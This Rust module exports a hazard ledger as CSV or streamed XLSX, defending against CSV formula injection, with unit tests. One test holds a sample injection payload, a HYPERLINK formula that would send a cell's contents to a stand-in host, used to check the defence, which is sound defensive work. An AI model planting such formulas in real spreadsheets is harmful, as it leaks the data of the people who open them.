//! Writing the ledger as CSV (UTF-8 with a BOM, so Excel reads the Chinese right, and CRLF
//! line ends as Excel writes them) or as XLSX, both onto any `Write` as the lines come, never
//! holding the file.
//!
//! Ledger cells carry what enterprises typed. A CSV cell that Excel would read as a formula
//! (`=HYPERLINK(…)`, `+`, `-`, `@`, a tab or a carriage return first, after spaces too) is
//! written with a leading `'` (OWASP's CSV-injection rule), so it stays text; XLSX cells are
//! inline strings, which Excel never evaluates.
//!
//! The XLSX is SpreadsheetML with inline strings, written through `zip`'s streaming writer
//! (data descriptors instead of seeking back), so the first bytes leave before the last row is
//! read. rust_xlsxwriter needs a seekable target and finishes the file before sending it.

use std::io::{self, Write};

use zip::ZipWriter;
use zip::write::{SimpleFileOptions, StreamWriter};

use super::ledger::{HEADERS, LedgerLine};

pub trait LedgerSheet {
    fn line(&mut self, line: &LedgerLine) -> io::Result<()>;
    fn finish(self: Box<Self>) -> io::Result<()>;
}

pub struct CsvSheet<W: Write> {
    writer: csv::Writer<W>,
}

/// The byte order mark Excel needs to read a CSV file as UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

impl<W: Write> CsvSheet<W> {
    pub fn new(mut out: W) -> io::Result<Self> {
        out.write_all(BOM)?;
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(out);
        writer.write_record(HEADERS)?;
        Ok(CsvSheet { writer })
    }
}

impl<W: Write> LedgerSheet for CsvSheet<W> {
    fn line(&mut self, line: &LedgerLine) -> io::Result<()> {
        let days = line.overdue_days.to_string();
        let cells: Vec<_> = line
            .text
            .iter()
            .map(|cell| inert_cell(cell))
            .chain([days.as_str().into(), inert_cell(&line.listed)])
            .collect();
        self.writer
            .write_record(cells.iter().map(|c| c.as_bytes()))?;
        Ok(())
    }

    fn finish(self: Box<Self>) -> io::Result<()> {
        self.writer
            .into_inner()
            .map_err(|e| e.into_error())?
            .flush()
    }
}

/// `text` as a CSV cell that a spreadsheet shows as text: prefixed with `'` when it would
/// start a formula.
pub fn inert_cell(text: &str) -> std::borrow::Cow<'_, str> {
    let starts_formula = text
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r']);
    if starts_formula {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

pub struct XlsxSheet<W: Write> {
    zip: ZipWriter<StreamWriter<W>>,
    row: u32,
}

const CONTENT_TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>"#;

const ROOT_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;

const WORKBOOK: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="隐患台账" sheetId="1" r:id="rId1"/></sheets></workbook>"#;

const WORKBOOK_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#;

/// Two cell formats: plain, and bold for the header row.
const STYLES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><fonts count="2"><font><sz val="11"/><name val="等线"/></font><font><b/><sz val="11"/><name val="等线"/></font></fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="0" fontId="1" fillId="0" borderId="0" xfId="0" applyFont="1"/></cellXfs></styleSheet>"#;

/// Column widths in characters, one per header.
const WIDTHS: [u8; 15] = [38, 28, 22, 12, 12, 10, 40, 12, 12, 12, 10, 14, 12, 10, 10];

const COLUMNS: &[u8; 15] = b"ABCDEFGHIJKLMNO";

/// Text made safe for XML: the five entities escaped, characters XML 1.0 forbids dropped.
fn escape(text: &str, out: &mut String) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if (c as u32) < 0x20 || c == '\u{FFFE}' || c == '\u{FFFF}' => {}
            c => out.push(c),
        }
    }
}

impl<W: Write> XlsxSheet<W> {
    pub fn new(out: W) -> io::Result<Self> {
        let mut zip = ZipWriter::new_stream(out);
        let deflated = SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated)
            .compression_level(Some(1));
        for (name, text) in [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", WORKBOOK),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
            ("xl/styles.xml", STYLES),
        ] {
            zip.start_file(name, deflated)?;
            zip.write_all(text.as_bytes())?;
        }
        zip.start_file("xl/worksheets/sheet1.xml", deflated)?;
        let mut head = String::from(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/></sheetView></sheetViews><cols>"#,
        );
        for (i, width) in WIDTHS.iter().enumerate() {
            head.push_str(&format!(
                r#"<col min="{n}" max="{n}" width="{width}" customWidth="1"/>"#,
                n = i + 1
            ));
        }
        head.push_str("</cols><sheetData>");
        zip.write_all(head.as_bytes())?;
        let mut sheet = XlsxSheet { zip, row: 0 };
        sheet.row(HEADERS.iter().map(|h| Cell::Text(h)), true)?;
        Ok(sheet)
    }

    fn row<'a>(&mut self, cells: impl Iterator<Item = Cell<'a>>, header: bool) -> io::Result<()> {
        self.row += 1;
        let r = self.row;
        let style = if header { r#" s="1""# } else { "" };
        let mut xml = format!(r#"<row r="{r}">"#);
        for (i, cell) in cells.enumerate() {
            let column = COLUMNS[i] as char;
            match cell {
                Cell::Text("") => {}
                Cell::Text(text) => {
                    xml.push_str(&format!(
                        r#"<c r="{column}{r}"{style} t="inlineStr"><is><t xml:space="preserve">"#
                    ));
                    escape(text, &mut xml);
                    xml.push_str("</t></is></c>");
                }
                Cell::Number(n) => xml.push_str(&format!(r#"<c r="{column}{r}"><v>{n}</v></c>"#)),
            }
        }
        xml.push_str("</row>");
        self.zip.write_all(xml.as_bytes())
    }
}

enum Cell<'a> {
    Text(&'a str),
    Number(i64),
}

impl<W: Write> LedgerSheet for XlsxSheet<W> {
    fn line(&mut self, line: &LedgerLine) -> io::Result<()> {
        let cells = line
            .text
            .iter()
            .map(|t| Cell::Text(t))
            .chain([Cell::Number(line.overdue_days), Cell::Text(&line.listed)]);
        self.row(cells, false)
    }

    fn finish(mut self: Box<Self>) -> io::Result<()> {
        self.zip.write_all(b"</sheetData></worksheet>")?;
        self.zip.finish()?.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(description: &str) -> LedgerLine {
        let mut text: [String; 13] = Default::default();
        text[0] = "0193a1b2-0000-7000-8000-000000000001".into();
        text[1] = "王母渡烟花".into();
        text[6] = description.into();
        LedgerLine {
            text,
            overdue_days: 3,
            listed: "县级挂牌".into(),
        }
    }

    #[test]
    fn csv_starts_with_a_bom_and_quotes_what_needs_it() {
        let mut out = Vec::new();
        let mut sheet = Box::new(CsvSheet::new(&mut out).unwrap());
        sheet.line(&line("通道堵塞, 需\"立即\"清理")).unwrap();
        sheet.finish().unwrap();
        assert!(out.starts_with(BOM));
        let text = String::from_utf8(out[3..].to_vec()).unwrap();
        assert!(
            text.ends_with("\r\n") && text.matches("\r\n").count() == 2,
            "{text:?}"
        );
        let mut lines = text.lines();
        assert!(lines.next().unwrap().starts_with("隐患编号,企业名称,"));
        let row = lines.next().unwrap();
        assert!(row.contains(r#""通道堵塞, 需""立即""清理""#), "{row}");
        assert!(row.ends_with(",3,县级挂牌"), "{row}");
    }

    #[test]
    fn formulas_are_written_as_text() {
        for formula in [
            r#"=HYPERLINK("http://x/?d="&A2,"详情")"#,
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "   =1+1",
        ] {
            assert_eq!(inert_cell(formula), format!("'{formula}"));
        }
        for plain in ["配电箱未接地", "2026-12-03", "0797-1234567", "a=b", ""] {
            assert_eq!(inert_cell(plain), plain);
        }
        let mut out = Vec::new();
        let mut sheet = Box::new(CsvSheet::new(&mut out).unwrap());
        sheet.line(&line("=1+1")).unwrap();
        sheet.finish().unwrap();
        assert!(String::from_utf8(out).unwrap().contains(",'=1+1,"));
    }

    #[test]
    fn xml_text_is_escaped_and_cleaned() {
        let mut out = String::new();
        escape("a<b & \"c\"\u{1}\n", &mut out);
        assert_eq!(out, "a&lt;b &amp; &quot;c&quot;\n");
    }

    #[test]
    fn xlsx_is_a_zip_with_the_sheet_inside() {
        let mut out = Vec::new();
        let mut sheet = Box::new(XlsxSheet::new(&mut out).unwrap());
        sheet.line(&line("配电箱<未接地>")).unwrap();
        sheet.finish().unwrap();
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(out)).unwrap();
        let mut xml = String::new();
        std::io::Read::read_to_string(
            &mut archive.by_name("xl/worksheets/sheet1.xml").unwrap(),
            &mut xml,
        )
        .unwrap();
        assert!(xml.contains("<t xml:space=\"preserve\">隐患编号</t>"));
        assert!(xml.contains("配电箱&lt;未接地&gt;"));
        assert!(xml.contains(r#"<c r="N2"><v>3</v></c>"#));
        assert!(xml.ends_with("</sheetData></worksheet>"));
        assert!(archive.by_name("[Content_Types].xml").is_ok());
    }
}
